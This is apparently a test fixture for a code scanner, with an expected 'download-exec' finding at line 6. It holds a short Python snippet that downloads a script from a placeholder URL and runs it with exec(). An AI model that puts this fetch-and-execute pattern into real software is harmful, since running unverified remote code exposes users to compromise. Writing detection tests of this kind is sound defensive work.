# expect: download-exec 6:1
from urllib.request import urlopen

URL = "https://example.com/bootstrap.py"
code = urlopen(URL).read()
exec(code)
